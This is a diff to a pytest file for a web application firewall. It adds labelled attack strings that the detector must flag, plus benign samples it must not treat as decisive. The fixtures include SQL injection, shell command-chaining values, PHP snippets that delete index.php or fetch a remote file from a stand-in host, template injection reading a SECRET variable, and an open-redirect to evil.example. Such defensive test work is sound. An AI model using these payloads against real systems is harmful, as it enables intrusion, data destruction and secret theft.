@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from bascule.waf.logic.facts import ALL, FACTS, facts_of, facts_with_evidence
+from bascule.waf.logic.facts import ALL, DECISIVE, FACTS, facts_of, facts_with_evidence
 
 ATTACKS = [
     (b"1 UNION SELECT null,null--", "sql.union_select"),
@@ -96,6 +96,27 @@ ATTACKS = [
     (b'<!--#exec cmd="id" -->', "http.server_side_include"),
     (b"=cmd|' /c calc'!A0", "http.formula"),
     (b"sqlmap/1.7", "scanner.user_agent"),
+    (b"-83) OR 13 BETWEEN 22 AND 22-- x", "sql.ends_statement"),
+    (b"9 or 5>4", "sql.ends_statement"),
+    (b"1 or true", "sql.ends_statement"),
+    (b"3-(select 1)", "sql.ends_statement"),
+    (b"name` from users#", "sql.ends_statement"),
+    (b"1' and jsonb_path_exists('{}','$')--", "sql.quoted_condition"),
+    (b"& for /f %i in ('ver') do echo %i", "shell.runs_command"),
+    (b"& copy a.txt b.php", "shell.runs_command"),
+    (b"|gawk 'BEGIN{}'", "shell.runs_command"),
+    (b";$0<<<id", "shell.space_trick"),
+    (b"--checkpoint=1 --checkpoint-action=exec=sh", "shell.assembles_command"),
+    (b"assert(strrev('x'))", "code.php_runs"),
+    (b"unlink('index.php');", "code.php_runs"),
+    (b"copy('http://x.example/s.txt','s.php');", "code.php_runs"),
+    (b"@System.DateTime.Now", "code.dotnet"),
+    (b"{{'a'*9}}", "template.sum"),
+    (b'{{ .Ctx.Env "SECRET" }}', "template.object_chain"),
+    (b"1 or position()=1", "xpath.leaves_predicate"),
+    (b"\t//evil.example", "http.redirect_trick"),
+    (b"<img src='https://x.example/?", "html.dangling"),
+    (b"<base target='", "html.dangling"),
 ]
 
 HONEST = [
@@ -131,6 +152,20 @@ def test_attacks_show_their_facts(value: bytes, fact: str) -> None:
 @pytest.mark.parametrize("value", HONEST)
 def test_honest_text_has_no_facts(value: bytes) -> None:
     assert facts_of(value, "query") == frozenset()
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        b"sudo apt update && sudo apt upgrade did not help",
+        b'Traceback (most recent call last):\n  File "app.py", line 3\nError',
+        b"joe@system.example.org",
+        b"5 > 4 and 3 < 9",
+        b'5" from china',
+    ],
+)
+def test_nothing_in_honest_text_decides(value: bytes) -> None:
+    assert facts_of(value, "query").isdisjoint(DECISIVE)
 
 
 DTD = b'<?xml version="1.0"?>\n<!DOCTYPE root [\n<!ELEMENT root (to)>%b\n]>\n<root><to>A</to></root>'
